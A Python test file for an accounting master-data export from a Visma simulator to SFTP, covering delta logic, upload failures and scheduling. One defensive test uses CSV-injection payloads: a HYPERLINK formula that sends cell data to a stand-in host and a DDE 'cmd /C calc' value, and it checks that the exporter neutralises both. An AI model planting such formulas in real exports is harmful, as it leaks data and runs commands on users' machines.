"""The coding-list export over the real OpenSSH server and the Visma simulator: one file per list,
deltas by content hash, values never deleted, CSV injection, an interrupted upload, a failed Visma
read, and the schedule of serve and the worker."""

from __future__ import annotations

import asyncio
import re
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from ml_connector.adapters.sftp.source import SftpSource
from ml_connector.errors import TransientSourceError
from ml_connector.ledger.masterdata_store import MasterdataStore
from ml_connector.masterdata.export import MasterdataResult, export_masterdata
from ml_connector.masterdata.lists import SPECS
from ml_connector.masterdata.schedule import due_modes
from tests.masterdata.conftest import CodingEnv

ALL = ("accounts", "cost_centers", "projects", "vat_codes", "credit_terms")
NAME = re.compile(
    r"^(glaccounts|costcenters|projects|vatcodes|creditterms)_C100234_\d{8}T\d{6}Z_(full|delta)\.csv$"
)


def _export(env: CodingEnv, mode: str, lists: tuple[str, ...] = ALL, **kw: Any) -> MasterdataResult:
    result = asyncio.run(export_masterdata(env.rt, env.app.ledger, modes=dict.fromkeys(lists, mode), **kw))  # type: ignore[arg-type]
    assert result.status == "ok", result.summary()
    return result


def _by_list(result: MasterdataResult) -> dict[str, Any]:
    return {lr.name: lr for lr in result.lists}


def test_full_export_writes_one_file_per_list_with_the_documented_columns(cenv: CodingEnv) -> None:
    result = _by_list(_export(cenv, "full"))
    assert set(result) == set(ALL)
    names = cenv.files()
    assert len(names) == 5 and all(NAME.match(n) for n in names)  # no .tmp left behind
    for name, lr in result.items():
        assert lr.status == "ok" and lr.remote_path == f"{cenv.remote_root}/masterdata/{lr.file_name}"
        header = (cenv.folder() / lr.file_name).read_bytes().split(b"\r\n", 1)[0].decode()
        assert tuple(header.split(",")) == SPECS[name].columns

    accounts = {r["accountNumber"]: r for r in cenv.rows(result["accounts"].file_name)}
    assert "2400" not in accounts and "1500" not in accounts  # control accounts: no manual entry
    assert accounts["6800"] == {
        "accountNumber": "6800",
        "description": "Kontorrekvisita",
        "type": "Expense",
        "accountClass": "OFFICE",
        "active": "true",
        "lastModified": accounts["6800"]["lastModified"],
    }
    assert accounts["2780"]["active"] == "false"  # inactive in Visma: sent as inactive
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", accounts["6800"]["lastModified"])

    centers = cenv.rows(result["cost_centers"].file_name)
    assert [(r["costCenterId"], r["active"]) for r in centers] == [
        ("0000", "true"),
        ("0100", "true"),
        ("0200", "true"),
        ("0300", "true"),
    ]
    projects = cenv.rows(result["projects"].file_name)
    assert [(r["projectId"], r["segmentValue"]) for r in projects] == [
        ("P-AALESUND", "14"),
        ("P-NONE", "00"),
        ("P-PAYROLL", "09"),
    ]  # P-LATER maps to 77, which Visma does not have: not offered
    vat = {r["vatCodeId"]: r for r in cenv.rows(result["vat_codes"].file_name)}
    assert vat["1"]["active"] == "true" and vat["1"]["ratePercent"] == "25"
    # 86 is reverse charge at 25 % (the seed, as Visma has it): journal mode books it only with
    # mapping.reverse_charge, which this connection leaves out, so it goes out inactive and is reported
    assert vat["86"]["active"] == "false" and vat["86"]["ratePercent"] == "25"
    assert any("86" in note for note in result["vat_codes"].notes)
    assert vat["13"]["active"] == "false" and vat["3"]["active"] == "false"  # no VAT account mapped
    assert any("13" in note and "tax_accounts" in note for note in result["vat_codes"].notes)
    terms = {r["termsId"]: r for r in cenv.rows(result["credit_terms"].file_name)}
    assert set(terms) == {"14", "30"}  # "10K" is visible to customers only
    assert terms["30"]["dueDays"] == "30" and terms["30"]["active"] == "true"

    # nothing changed since: every delta is unchanged and no file is written
    again = _export(cenv, "delta")
    assert {lr.status for lr in again.lists} == {"unchanged"} and len(cenv.files()) == 5


def test_delta_holds_exactly_the_changed_values_and_never_deletes_one(cenv: CodingEnv) -> None:
    _export(cenv, "full")
    cenv.sim.update_account("6800", description="Kontorrekvisita og papir")
    cenv.sim.update_account("6540", allowManualEntry=False)  # no longer codable: goes out inactive
    cenv.sim.add_segment_value(1, "0300", "Logistikk", active=False)
    cenv.sim.add_segment_value(1, "0450", "Prosjektkontor")
    cenv.sim._sim("POST", "vat-codes", {"vatId": "1", "notValidAfter": "2020-12-31T00:00:00"})
    cenv.sim._sim("POST", "credit-terms", {"termsId": "14", "visibleTo": "DS"})
    result = _by_list(_export(cenv, "delta"))
    assert result["projects"].status == "unchanged"
    assert result["accounts"].keys == ["6540", "6800"]
    accounts = {r["accountNumber"]: r for r in cenv.rows(result["accounts"].file_name)}
    assert (
        accounts["6800"]["description"] == "Kontorrekvisita og papir" and accounts["6800"]["active"] == "true"
    )
    assert accounts["6540"]["active"] == "false" and accounts["6540"]["description"] == "Inventar"
    centers = cenv.rows(result["cost_centers"].file_name)
    assert [(r["costCenterId"], r["active"]) for r in centers] == [("0300", "false"), ("0450", "true")]
    assert [(r["vatCodeId"], r["active"]) for r in cenv.rows(result["vat_codes"].file_name)] == [
        ("1", "false")
    ]
    assert [(r["termsId"], r["active"]) for r in cenv.rows(result["credit_terms"].file_name)] == [
        ("14", "false")
    ]
    # an inactive value already sent is not sent again; a full file still carries it
    assert {lr.status for lr in _export(cenv, "delta").lists} == {"unchanged"}
    full = _by_list(_export(cenv, "full", ("accounts",)))
    assert {r["accountNumber"]: r["active"] for r in cenv.rows(full["accounts"].file_name)}["6540"] == "false"
    # a change Stampli cannot see (a field not in the file) is no reason for a file
    cenv.sim.update_account("6100", postOption="Summary")
    assert _by_list(_export(cenv, "delta"))["accounts"].status == "unchanged"


def test_values_that_a_spreadsheet_would_evaluate_are_neutralised(cenv: CodingEnv) -> None:
    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
    cenv.sim.update_account("6800", description=evil)
    cenv.sim.add_segment_value(1, "0500", "+47 cmd|' /C calc'!A0")
    result = _by_list(_export(cenv, "full", ("accounts", "cost_centers")))
    data = (cenv.folder() / result["accounts"].file_name).read_bytes()
    assert b"'=HYPERLINK" in data and b',"=HYPERLINK' not in data and b",=HYPERLINK" not in data
    accounts = {r["accountNumber"]: r for r in cenv.rows(result["accounts"].file_name)}
    assert accounts["6800"]["description"] == evil  # read back exactly
    centers = (cenv.folder() / result["cost_centers"].file_name).read_bytes()
    assert b"'+47 cmd" in centers


def test_interrupted_upload_leaves_no_final_file_and_is_retried(
    cenv: CodingEnv, monkeypatch: pytest.MonkeyPatch
) -> None:
    _export(cenv, "full", ("cost_centers",))
    cenv.sim.add_segment_value(1, "0450", "Prosjektkontor")
    store = MasterdataStore(cenv.app.ledger)
    before = {k: r["exported_hash"] for k, r in store.exported("acme", "cost_centers").items()}

    async def dropped(self: SftpSource, s: Any, src: str, dst: str) -> None:
        raise TransientSourceError(f"connection lost before renaming {src}")

    monkeypatch.setattr(SftpSource, "_rename", dropped)
    failed = asyncio.run(export_masterdata(cenv.rt, cenv.app.ledger, modes={"cost_centers": "delta"}))
    (lr,) = failed.lists
    assert failed.status == "failed" and lr.status == "failed" and lr.file_name is not None
    assert lr.file_name not in cenv.files() and f"{lr.file_name}.tmp" in cenv.files()
    after = {k: r["exported_hash"] for k, r in store.exported("acme", "cost_centers").items()}
    assert after == before  # the hashes did not move on
    assert [u["status"] for u in store.uploads("acme")] == ["uploaded", "failed"]

    monkeypatch.undo()
    retried = _export(cenv, "delta", ("cost_centers",))
    assert retried.lists[0].keys == ["0450"] and retried.lists[0].file_name != lr.file_name
    assert _export(cenv, "delta", ("cost_centers",)).lists[0].status == "unchanged"


def test_a_failed_visma_read_concludes_nothing(cenv: CodingEnv) -> None:
    _export(cenv, "full", ("accounts",))
    cenv.sim.set_faults("5xx_next=50")
    result = asyncio.run(
        export_masterdata(cenv.rt, cenv.app.ledger, modes={"accounts": "full", "vat_codes": "full"})
    )
    assert result.status == "failed" and result.lists == [] and "Visma" in (result.error or "")
    assert len(cenv.files()) == 1  # the earlier accounts file only
    assert [u["list_name"] for u in MasterdataStore(cenv.app.ledger).uploads("acme")] == ["accounts"]


def test_dry_run_uploads_and_records_nothing(cenv: CodingEnv) -> None:
    result = _export(cenv, "full", dry_run=True)
    assert all(lr.rows > 0 and lr.content for lr in result.lists)
    assert cenv.files() == [] and MasterdataStore(cenv.app.ledger).uploads("acme") == []


def test_schedule_full_first_then_deltas_then_the_next_days_full(cenv: CodingEnv) -> None:
    rt = cenv.rt
    morning = datetime(2026, 3, 2, 8, 0, tzinfo=UTC)
    assert due_modes(rt, cenv.app.ledger, morning) == dict.fromkeys(ALL, "full")  # first export of every list
    _export(cenv, "full")
    assert due_modes(rt, cenv.app.ledger, datetime.now(UTC)) == dict.fromkeys(ALL, "delta")
    tomorrow = datetime.now(UTC).replace(hour=2, minute=30) + timedelta(days=1)
    assert due_modes(rt, cenv.app.ledger, tomorrow) == dict.fromkeys(ALL, "full")
